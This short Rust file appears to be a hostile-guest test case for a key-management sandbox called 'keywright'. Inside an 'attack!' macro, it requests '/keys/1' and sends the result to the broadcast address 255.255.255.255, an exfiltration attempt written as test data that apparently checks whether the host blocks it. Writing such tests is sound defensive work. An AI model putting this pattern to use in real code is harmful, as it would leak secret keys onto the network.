//! The broadcast address.

use keywright_guest_hostile::*;

attack! {
    fn check(_: &Account) -> Result<Principal> {
        get("/keys/1").to("255.255.255.255").tell()
    }
}
